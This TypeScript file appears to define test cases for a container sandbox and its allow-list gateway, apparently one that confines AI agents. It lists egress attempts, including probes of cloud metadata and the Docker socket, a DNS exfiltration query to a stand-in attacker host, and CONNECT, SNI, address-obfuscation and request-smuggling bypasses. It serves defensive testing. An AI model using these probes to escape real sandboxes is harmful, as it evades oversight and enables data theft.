/** One way out of a container that is tried; `driver.py` knows the kinds. */
export interface Attempt {
  readonly name: string;
  readonly kind: 'tcp' | 'udp' | 'icmp' | 'lookup' | 'unix' | 'gateway';
  readonly host?: string;
  readonly port?: number;
  readonly path?: string;
  /** What the gateway is sent, and what follows once it promised a tunnel: TLS for this name, or bytes. */
  readonly send?: string;
  readonly sni?: string;
  readonly bytesAfter?: string;
  /** Base64. */
  readonly bytes?: string;
  /** Whether a container with an ordinary network, or one with a gateway that lets all through, gets to a sink this way. */
  readonly control: 'network' | 'open gateway' | 'none';
}

/** Where the sinks are. */
export interface Places {
  /** The host as containers in an ordinary network see it. */
  readonly host: string;
  /** Another address of the host. */
  readonly otherHost: string;
  readonly tcp: number;
  readonly udp: number;
  readonly dns: number;
  /** Another container of the machine. */
  readonly neighbour: string;
  readonly neighbourPort: number;
  /** A name on the list of the gateway. */
  readonly allowed: string;
  /** One on the list that leads inside. */
  readonly inner: string;
  readonly abstractSocket: string;
}

const connect = (authority: string, headers = 'Host: x\r\n') =>
  `CONNECT ${authority} HTTP/1.1\r\n${headers}\r\n`;
const get = (url: string, host: string, more = '') => `GET ${url} HTTP/1.1\r\nHost: ${host}\r\n${more}\r\n`;

/** A question for the address of `exfil.attacker.test`. */
const QUESTION = Buffer.concat([
  Buffer.from('1234010000010000000000000565786669', 'hex').subarray(0, 12),
  ...['exfil', 'attacker', 'test'].flatMap((label) => [Buffer.of(label.length), Buffer.from(label)]),
  Buffer.from('0000010001', 'hex'),
]).toString('base64');
/** The beginning of QUIC's first packet. */
const QUIC = Buffer.concat([
  Buffer.from('c300000001088394c8f03e5157080000449e', 'hex'),
  Buffer.alloc(1200),
]).toString('base64');

/** Past the gateway: there is no network to do it with. */
function direct(at: Places): readonly Attempt[] {
  const reachable = new Set([at.host, at.otherHost, at.neighbour, `::ffff:${at.host}`]);
  const ports = new Set([at.tcp, at.udp, at.dns, at.neighbourPort]);
  const over =
    (kind: 'tcp' | 'udp') =>
    (name: string, host: string, [port, bytes]: readonly [port: number, bytes?: string]): Attempt => ({
      name,
      kind,
      host,
      port,
      control: reachable.has(host) && ports.has(port) ? 'network' : 'none',
      ...(bytes === undefined ? {} : { bytes }),
    });
  const [tcp, udp] = [over('tcp'), over('udp')];
  return [
    tcp('TCP to the host by the address of its bridge', at.host, [at.tcp]),
    tcp('TCP to the host by its own address', at.otherHost, [at.tcp]),
    tcp('TCP to another container', at.neighbour, [at.neighbourPort]),
    tcp('TCP to port 22 of the host', at.host, [22]),
    tcp('TCP to the port of the Docker daemon', at.host, [2375]),
    tcp('TCP to a public address', '93.184.216.34', [80]),
    tcp('TLS to a public address', '1.1.1.1', [443]),
    tcp('metadata of the cloud', '169.254.169.254', [80]),
    tcp("metadata of Alibaba's cloud", '100.100.100.200', [80]),
    tcp("Azure's WireServer", '168.63.129.16', [80]),
    tcp('a private address: 10.0.0.1', '10.0.0.1', [80]),
    tcp('a private address: 192.168.1.1', '192.168.1.1', [80]),
    tcp('a private address: 172.16.0.1', '172.16.0.1', [80]),
    tcp('IPv6 to a public address', '2606:4700:4700::1111', [443]),
    tcp('IPv6 to the link', 'fe80::1', [80]),
    tcp('IPv6 metadata', 'fd00:ec2::254', [80]),
    tcp('IPv4 in IPv6', `::ffff:${at.host}`, [at.tcp]),
    tcp('DNS by TCP', '1.1.1.1', [53]),
    tcp('DNS over TLS', '1.1.1.1', [853]),
    tcp('DNS over HTTPS', '8.8.8.8', [443]),
    udp('UDP to the host', at.host, [at.udp]),
    udp('a name with a secret, asked of a server of the attacker', at.host, [at.dns, QUESTION]),
    udp('DNS of a public server', '1.1.1.1', [53, QUESTION]),
    udp('QUIC to a public address', '1.1.1.1', [443, QUIC]),
    udp('UDP by IPv6', '2606:4700:4700::1111', [53, QUESTION]),
    { name: 'ping the host', kind: 'icmp', host: at.host, control: 'none' },
    { name: 'look a name up', kind: 'lookup', host: 'secret.attacker.test', control: 'none' },
    { name: 'look the host up', kind: 'lookup', host: 'host.docker.internal', control: 'none' },
    { name: 'an abstract socket of the host', kind: 'unix', path: `@${at.abstractSocket}`, control: 'none' },
    { name: 'the socket of the Docker daemon', kind: 'unix', path: '/var/run/docker.sock', control: 'none' },
    {
      name: 'the socket of containerd',
      kind: 'unix',
      path: '/run/containerd/containerd.sock',
      control: 'none',
    },
    { name: "the system's bus", kind: 'unix', path: '/run/dbus/system_bus_socket', control: 'none' },
  ];
}

const raw = (name: string, send: string): Attempt => ({
  name,
  kind: 'gateway',
  send,
  control: 'open gateway',
});

/** Through the gateway, by what it may take for something else. */
function tunnelsThroughGateway(at: Places): readonly Attempt[] {
  const tunnel = (name: string, authority: string, sni = at.allowed): Attempt => ({
    ...raw(name, connect(authority)),
    sni,
  });
  const { allowed, inner, host } = at;
  return [
    tunnel('a host that is not on the list', 'api.github.com:443', 'api.github.com'),
    tunnel('a gist', 'gist.github.com:443', 'gist.github.com'),
    tunnel('a name below one of the list', `x.${allowed}:443`),
    tunnel('a name that ends like one of the list', `evil${allowed}:443`),
    tunnel('a name that begins like one of the list', `${allowed}.attacker.test:443`),
    tunnel('another port of a host of the list', `${allowed}:80`),
    tunnel('a port with zeros before it', `${allowed}:00443`),
    tunnel('port 0', `${allowed}:0`),
    tunnel('no port', allowed),
    tunnel('an address', `${host}:443`),
    tunnel('an address in octal', '0254.021.0.1:443'),
    tunnel('an address in hex', '0xac110001:443'),
    tunnel('an address as one number', '2886795265:443'),
    tunnel('an address with parts left out', '127.1:443'),
    tunnel('an address in IPv6', '[::1]:443'),
    tunnel('an address in IPv6 that is one in IPv4', `[::ffff:${host}]:443`),
    tunnel('localhost', 'localhost:443'),
    tunnel('a name of the list that leads inside', `${inner}:443`, inner),
    tunnel('two dots at the end', `${allowed}..:443`),
    tunnel('punycode that looks like a name of the list', `xn--${allowed.replace('a', '')}-9za:443`),
    tunnel('a letter that looks like another', `\u00E0${allowed.slice(1)}:443`),
    tunnel('digits of another script', '\u00B9\u00B2\u00B7.0.0.1:443'),
    tunnel('a user before the name', `${allowed}@attacker.test:443`),
    tunnel('a path behind the name', `attacker.test:443/${allowed}:443`),
    tunnel('a name cut by a NUL', `attacker.test\0.${allowed}:443`),
    tunnel('percent signs', `${allowed.replace('.', '%2e')}:443`),
    {
      ...raw(
        'a Host of the list with another target',
        connect('attacker.test:443', `Host: ${allowed}:443\r\n`),
      ),
      sni: allowed,
    },
    tunnel('another name in TLS than in CONNECT', `${allowed}:443`, 'attacker.test'),
    tunnel('no name in TLS', `${allowed}:443`, ''),
    { ...raw('no TLS in a tunnel', connect(`${allowed}:443`)), bytesAfter: get('/', allowed) },
    { ...raw('SSH in a tunnel', connect(`${allowed}:443`)), bytesAfter: 'SSH-2.0-OpenSSH_9.9\r\n' },
  ];
}

/** The same by requests that are none for a tunnel, or more than one. */
function requestsThroughGateway({ allowed, host, tcp }: Places): readonly Attempt[] {
  return [
    raw('GET with a whole URL', get(`http://${host}:${tcp}/`, `${host}:${tcp}`)),
    raw('GET of a host of the list', get(`http://${allowed}/`, allowed)),
    raw('GET with https', get('https://api.github.com/', 'api.github.com')),
    raw(
      'POST to the sink by Host',
      `POST /upload HTTP/1.1\r\nHost: ${host}:${tcp}\r\nContent-Length: 1\r\n\r\nx`,
    ),
    raw(
      'a websocket',
      get(
        `http://${host}:${tcp}/`,
        host,
        'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: eA==\r\nSec-WebSocket-Version: 13\r\n',
      ),
    ),
    raw(
      'an upgrade to HTTP/2',
      get('/', host, 'Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AA\r\n'),
    ),
    raw('a second CONNECT behind a refused one', connect('attacker.test:443') + connect(`${host}:${tcp}`)),
    raw('a CONNECT behind a GET', `GET / HTTP/1.1\r\nHost: x\r\n\r\n${connect(`${host}:${tcp}`)}`),
    raw(
      'a CONNECT with a body',
      `CONNECT ${host}:${tcp} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
    ),
    raw('a line break in the target', `CONNECT attacker.test:443\nHost: ${allowed}:443 HTTP/1.1\r\n\r\n`),
    raw('HTTP/1.0', `CONNECT ${host}:${tcp} HTTP/1.0\r\n\r\n`),
    raw('HTTP/2 without a word before', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
    raw('another socket through a path', get('http://unix:/var/run/docker.sock:/_ping', 'x')),
  ];
}

/** Every attempt. The last ones ask a gateway for what it has to refuse. */
export function attemptsAt(places: Places): readonly Attempt[] {
  return [...direct(places), ...tunnelsThroughGateway(places), ...requestsThroughGateway(places)];
}

/** What an agent may do. */
export function permitted({ allowed }: Places): readonly Attempt[] {
  const tunnel = (name: string, authority: string): Attempt => ({
    name,
    kind: 'gateway',
    send: connect(authority),
    sni: allowed,
    control: 'none',
  });
  return [
    tunnel('a host of the list', `${allowed}:443`),
    tunnel('the same in capitals', `${allowed.toUpperCase()}:443`),
    tunnel('the same with the dot of the root', `${allowed}.:443`),
  ];
}
